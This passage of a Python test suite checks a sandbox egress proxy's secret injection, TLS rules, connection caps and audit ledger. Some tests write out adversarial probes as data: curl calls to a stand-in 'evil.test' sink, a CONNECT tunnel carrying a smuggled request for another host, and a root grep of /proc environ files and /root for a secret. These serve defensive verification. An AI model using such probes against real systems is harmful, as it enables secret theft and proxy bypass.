        assert "not bound" in out, out
        assert {r["host"] for r in requests_with(net, SECRET[4:])} == {"api.example.test"}
        # the value is nowhere the sandbox can read, nor in the log or the daemon's own log
        code, out, _ = sh(sd, sb, f"grep -rasl -- '{SECRET}' /proc/[0-9]*/environ /etc /run /tmp /home /root "
                                  f"2>/dev/null; echo end", user="root")
        assert out.strip() == "end", out
        assert SECRET not in json.dumps(log)
        assert SECRET not in sd.log_tail(1 << 20)
        # the audit trail: which secret went to which host, never its value
        ev = sd.request("GET", f"/sandboxes/{sb['sandboxID']}/events?limit=1000").json()
        uses = [e["detail"] for e in ev if e["type"] == "secret.use"]
        assert any(u["secret"].lower() == "api-token" and u["host"] == "api.example.test" and u["granted"]
                   for u in uses), uses
        # (the grep above carries it in its own argv, which is recorded as given)
        assert SECRET not in json.dumps([e for e in ev if e["type"] != "process.start"])
    finally:
        sd.kill(sb["sandboxID"])


def test_rules_transform_headers_over_https(env, clean, secrets_made):
    net, sd = env
    sb = new_sandbox(env, network={"rules": {"*.example.test": [{"transform": {"headers": {
        "X-Key": "k=${e2b.secrets.rule-token}"}}}]}})
    try:
        info = sd.request("GET", f"/sandboxes/{sb['sandboxID']}").json()
        assert "*.example.test" in info["network"]["rules"]
        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "X-Key: mine" https://ok.example.test/r')
        assert code == 0, err
        assert RULE_SECRET not in out
        r = [x for x in net.requests("ok") if x["path"] == "/r"][0]
        keys = [v for k, v in r["headers"] if k.lower() == "x-key"]
        assert keys == ["k=" + RULE_SECRET], r["headers"]
        # rules are for HTTPS: plain HTTP goes as the sandbox wrote it
        code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "X-Key: mine" http://ok.example.test/plain')
        r = [x for x in net.requests("ok") if x["path"] == "/plain"][0]
        assert ["X-Key", "mine"] in r["headers"]
        # hosts without rules are tunnelled untouched: our CA is not used there
        code, _, err = sh(sd, sb, "curl -sS -m 10 https://evil.test/")
        assert code == 60, err      # the sink's real certificate, which the sandbox does not trust
        code, out, _ = sh(sd, sb, f"curl -sS -m 10 --cacert {CA} -H 'X-Key: mine' https://evil.test/u")
        assert json.loads(out)["sink"] == "evil"
        r = [x for x in net.requests("evil") if x["path"] == "/u"][0]
        assert ["X-Key", "mine"] in r["headers"]
        # PUT replaces the rules
        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {})
        assert r.status == 204
        code, _, _ = sh(sd, sb, "curl -sS -m 10 https://ok.example.test/")
        assert code == 60      # no rule any more: not intercepted
    finally:
        sd.kill(sb["sandboxID"])


def test_intercepted_upstream_is_verified(env, clean, secrets_made):
    net, sd = env
    sb = new_sandbox(env, network={"rules": {"untrusted.example.test": [{"transform": {"headers": {
        "X-Key": "${e2b.secrets.rule-token}"}}}]}})
    try:
        code, out, err = sh(sd, sb, "curl -sS -m 10 https://untrusted.example.test/x")
        assert "not trusted" in out, (out, err)
        assert not [x for x in net.requests() if x["path"] == "/x"]
        assert not requests_with(net, RULE_SECRET)
    finally:
        sd.kill(sb["sandboxID"])


def test_secret_references_are_checked(env, clean, secrets_made):
    net, sd = env
    before = sd.list_ids()
    for envs in ({"T": "${e2b.secrets.nope}"}, {"T": "${e2b.secrets.rule-token}"}, {"T": "${e2b.secrets.a"}):
        r = sd.request("POST", "/v2/sandboxes", {"templateID": "base", "envVars": envs})
        assert r.status in (400, 404), (envs, r)
    assert sd.list_ids() == before
    sb = new_sandbox(env)
    try:
        r = sd.stream(sb, "process.Process/Start",
                      {"process": {"cmd": "/bin/sh", "args": ["-c", "echo $K"],
                                   "envs": {"K": "${e2b.secrets.api-token}"}}})
        assert r.status == 200
        out = stdout_of(parse_frames(r.body))
        assert out.startswith(b"hsp_") and SECRET.encode() not in out
        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "A: $(echo x)" http://api.example.test/')
        r = sd.stream(sb, "process.Process/Start",
                      {"process": {"cmd": "/bin/true", "envs": {"K": "${e2b.secrets.missing}"}}})
        assert b"invalid_argument" in r.body
    finally:
        sd.kill(sb["sandboxID"])


# --------------------------------------------------------------------------
# Caps
# --------------------------------------------------------------------------

HOLD_MANY = r"""
import socket, sys, time
n = int(sys.argv[1])
socks, ok = [], 0
for i in range(n):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    socks.append(s)
for s in socks:
    try:
        s.sendall(b'CONNECT ok.example.test:9000 HTTP/1.1\r\nHost: ok.example.test\r\n\r\n')
        if s.recv(100).startswith(b'HTTP/1.1 200'):
            ok += 1
    except OSError:
        pass
print(ok)
for s in socks:
    s.close()
time.sleep(0.5)
s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
s.sendall(b'CONNECT ok.example.test:9000 HTTP/1.1\r\nHost: ok.example.test\r\n\r\n')
print(s.recv(100).split(b'\r\n')[0].decode())
"""


def test_connection_cap_per_sandbox(env, sandboxed_hutch, tmp_path_factory, clean):
    """A second daemon in the same network with egress-connections 3."""
    net, _ = env
    root = tmp_path_factory.mktemp("egress-caps")
    root.chmod(0o755)
    sd = ServeDaemon(sandboxed_hutch, root / "data",
                     ["--dns", net.dns_server, "--egress-open", "198.51.100.0/24", "--egress-allow", "*",
                      "--egress-connections", "3", "--pool-size", "0"],
                     host=net.api_host, cmd_prefix=net.daemon_cmd_prefix)
    sd.start()
    try:
        sb = sd.create(timeout=120)
        put(sd, sb, "/tmp/hold.py", HOLD_MANY.encode())
        code, out, err = sh(sd, sb, "python3 /tmp/hold.py 8")
        assert code == 0, err
        lines = out.split()
        assert lines[0] == "3", out              # the cap, not more
        assert out.strip().endswith("200 Connection established"), out   # freed again
    finally:
        sd.stop()


def test_plain_http_inside_a_tunnel_is_held_to_the_tunnels_host(env, only_ok, clean):
    """CONNECT ok:80 (or SOCKS5) then a request naming another virtual host on
    the same address: refused, as the forward proxy would; the tunnel's own
    host works, and only one request goes through."""
    net, sd = env
    raw = ("CONNECT ok.example.test:80 HTTP/1.1\r\nHost: ok.example.test:80\r\n\r\n"
           "GET /vhost HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    res = client(sd, only_ok, "raw", raw.encode().hex())
    assert "200 Connection established" in res["reply"] and "/vhost" not in res["reply"]
    assert not [x for x in net.requests() if x["path"] == "/vhost"]
    raw = ("CONNECT ok.example.test:80 HTTP/1.1\r\nHost: ok.example.test:80\r\n\r\n"
           "GET /mine HTTP/1.1\r\nHost: ok.example.test\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    res = client(sd, only_ok, "raw", raw.encode().hex())
    assert '"path": "/mine"' in res["reply"]
    assert [x["path"] for x in net.requests("ok")] == ["/mine"]
    # SOCKS5 carrying http:// (curl's socks5h) still works
    code, out, _ = sh(sd, only_ok, "curl -sS -m 10 --proxy socks5h://127.0.0.1:3128 http://ok.example.test/s5")
    assert json.loads(out)["path"] == "/s5"
    # a protocol that is not HTTP passes (the echo server on 9000)
    raw = "CONNECT ok.example.test:9000 HTTP/1.1\r\nHost: ok.example.test\r\n\r\nEHLO me\r\n"
    res = client(sd, only_ok, "raw", raw.encode().hex())
    assert "EHLO me" in res["reply"].split("\r\n\r\n", 1)[1]


# --------------------------------------------------------------------------
# The audit trail and the usage ledger see the proxy's records (issue 15)
# --------------------------------------------------------------------------

def test_audit_and_ledger_count_the_proxys_bytes(env):
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=False, network={"allowOut": ["ok.example.test"]})
    sid = sb["sandboxID"]
    code, out, _ = sh(sd, sb, "curl -sS -m 10 -o /dev/null -w '%{size_download}' http://ok.example.test/bytes/100000")
    assert code == 0 and out == "100000", out
    code, out, _ = sh(sd, sb, "curl -sS -m 10 -o /dev/null -w '%{http_code}' http://evil.test/x")
    assert out == "403", out
    log = log_of(sd, sb)
    assert sd.kill(sid).status == 204
    allowed = [e for e in log if e["decision"] == "allow"]
    assert allowed and [e for e in log if e["decision"] == "deny"], log

    rows = {r["sandboxID"]: r for r in sd.request("GET", "/usage").json()["rows"]}
    eg = rows[sid]["egress"]
    # the ledger's bytes are the sums of the proxy's own records, exactly
    assert eg["allowed"] == len(allowed) and eg["denied"] == len(log) - len(allowed), (eg, log)
    assert eg["allowed_bytes_in"] == sum(e["bytesIn"] for e in allowed), (eg, log)
    assert eg["allowed_bytes_out"] == sum(e["bytesOut"] for e in allowed), (eg, log)
    # 100000 bytes of body and an HTTP head
    assert 100000 < eg["allowed_bytes_in"] < 100000 + 4096, eg

    events = sd.request("GET", f"/sandboxes/{sid}/events?kind=egress.&limit=1000").json()
    kinds = {e["type"] for e in events}
    assert kinds == {"egress.allow", "egress.deny"}, events
    assert any(e["detail"]["host"] == "ok.example.test" and e["detail"]["bytes_in"] > 100000 for e in events)
